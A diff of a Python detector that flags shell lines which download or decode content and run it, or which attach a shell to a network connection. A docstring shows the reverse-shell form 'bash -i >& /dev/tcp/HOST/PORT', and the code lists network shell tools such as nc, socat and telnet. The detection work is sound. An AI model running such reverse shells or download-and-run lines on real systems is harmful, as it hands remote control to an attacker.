@@ -3,43 +3,123 @@
 from __future__ import annotations
 
 from collections.abc import Iterable, Iterator
+from functools import cache, lru_cache
 
-from ...matching.programs import INTERPRETERS, SHELLS
+from ...matching.hosts import HostPattern
+from ...matching.programs import INTERPRETERS, SHELLS, WRAPPERS, is_sourced_safely
 from ...matching.shell import Command, Line
 from ...matching.shell.resolver import program_of
 from ...matching.shell.words import MANY, ONE, base_name, is_known
 from .effect import Effect
 from .flow import Brought, Origin, Origins, Step, follow
-from .tables.network import fetches
+from .tables.installers import INSTALLERS
+from .tables.network import fetches, is_plain_fetch
 
-__all__ = ["downloads_that_run"]
+__all__ = ["covers", "downloads_that_run", "is_download_and_run", "is_well_known", "is_well_known_installer", "run_by"]
 
 _NOTHING: Origins = frozenset()
-_KINDS = {"downloaded": "run-downloaded", "decoded": "run-decoded"}
+_KINDS = {
+    "downloaded": ("run-downloaded",),
+    "connected": ("run-downloaded", "network-shell"),
+    "decoded": ("run-decoded",),
+}
+_CONNECTIONS = frozenset("nc ncat netcat nc.traditional nc.openbsd telnet socat openssl".split())
 
 
 def downloads_that_run(line: Line, cwd: str, home: str) -> Iterator[Effect]:
-    """Yield an effect for each command that runs what the line downloads or decodes."""
+    """Yield an effect for each command that runs what the line downloads or decodes, or that installs it."""
     for step in follow(line, _sources):
         command = step.command
-        for kind, origins in (("run", run_by(step)), ("install", _installed_by(step)), ("apply", _applied_by(step))):
+        for what, origins in (("run", run_by(step)), ("install", _installed_by(step)), ("apply", _applied_by(step))):
             for origin in sorted(origins):
-                yield Effect(
-                    _kind(kind, origin), origin.target, " ".join(command.parts), command.name, command.grade
-                )
+                for kind in _kinds(what, origin):
+                    yield Effect(kind, origin.target, " ".join(command.parts), command.name, command.grade)
+    for command in line.commands:
+        if _is_shell_on_connection(command):
+            yield Effect("network-shell", "", " ".join(command.parts), command.name, command.grade)
 
 
-def _kind(what: str, origin: Origin) -> str:
+def _kinds(what: str, origin: Origin) -> tuple[str, ...]:
     if what == "install":
-        return "foreign-package"
+        return ("foreign-package",)
     if what == "apply":
-        return "apply-downloaded"
-    return "run-extracted" if origin.via == "archive" else _KINDS[origin.kind]
+        return ("apply-downloaded",)
+    return ("run-extracted",) if origin.via == "archive" else _KINDS[origin.kind]
+
+
+def _is_shell_on_connection(command: Command) -> bool:
+    """Return whether a shell's input and output are a connection: ``bash -i >& /dev/tcp/HOST/PORT``."""
+    return program_of(command.name) in SHELLS and any(
+        one.target.startswith(("/dev/tcp/", "/dev/udp/")) and one.is_output for one in command.redirections
+    )
+
+
+@lru_cache(maxsize=64)
+def is_download_and_run(line: Line) -> tuple[str, ...]:
+    """Return the URLs that a line runs if it does nothing else that cannot be read; nothing if it does more.
+
+    The line may only download, run what it downloads as it is, and do what sets this up: ``cd``, ``export``, ``sudo``.
+    """
+    if not line.is_simple or any(reason.kind not in _EXPLAINED for reason in line.opaque):
+        return ()
+    urls: dict[str, None] = {}
+    for step in follow(line, _sources):
+        origins = run_by(step)
+        if any(origin.kind != "downloaded" or origin.via for origin in origins):
+            return ()
+        urls.update((origin.target, None) for origin in origins)
+        if not (origins or _is_beside(step.command) or is_plain_fetch(step.command)):
+            return ()
+    return tuple(urls)
+
+
+_EXPLAINED = frozenset(["computed", "input", "written", "file"])
+_BESIDE = frozenset("cd chmod command export mkdir pwd rm set true umask unset which".split())
+_WRAPPERS = frozenset(key.partition(" ")[0] for key in WRAPPERS) - {"xargs", "parallel"}
+
+
+def _is_beside(command: Command) -> bool:
+    """Return whether a command changes nothing of what others read, and runs only what the line shows."""
+    name, words = program_of(command.name), command.parts[1:]
+    if name in (".", "source"):
+        return is_sourced_safely("".join(words[:1]).replace(ONE, ""))
+    if name in SHELLS:
+        return any(word.startswith("-") and "c" in word for word in words) and all(map(is_known, words))
+    return name in _BESIDE or name in _WRAPPERS
+
+
+@cache
+def is_well_known(url: str) -> bool:
+    """Return whether a URL is that of an installer in the table, over https and in its plain spelling."""
+    return any(covers(entry, url) for entry in INSTALLERS)
+
+
+def covers(entry: str, url: str) -> bool:
+    """Return whether a URL is https and on the host of an entry, below its path if it has one: ``astral.sh/uv/``."""
+    if not url.startswith("https://") or any(mark in url for mark in "\\@%") or ".." in url:
+        return False
+    host, slash, path = entry.removeprefix("https://").partition("/")
+    if not _pattern(host).covers(url):
+        return False
+    rest = url.removeprefix("https://").partition("/")[2]
+    return not slash or rest.startswith(path)
+
+
+@cache
+def _pattern(host: str) -> HostPattern:
+    return HostPattern(host)
+
+
+def is_well_known_installer(line: Line) -> bool:
+    """Return whether a line only downloads installers that are well known, and runs them."""
+    urls = is_download_and_run(line)
+    return bool(urls) and all(map(is_well_known, urls))
 
 
 def _sources(command: Command) -> Iterator[Brought]:
     for one in fetches(command):
-        yield Brought(Origin("downloaded", one.url), one.file)
+        connected = command.name in _CONNECTIONS or one.url.startswith("/dev/")
+        yield Brought(Origin("connected" if connected else "downloaded", one.url), one.file)
     if _decodes(command):
         yield Brought(Origin("decoded", command.name))
 
@@ -70,7 +150,7 @@ def run_by(step: Step) -> Origins:
     if not is_known(first) and (MANY in first or not is_known(base_name(first))):
         return step.of_word(first)
     found = _program(step, first)
-    reader = _RUNS.get(program_of(command.name.lower()))
+    reader = _RUNS.get(program_of(command.name.lower().removesuffix(".exe")))
     return found if reader is None else found | reader(step, words)
 
 
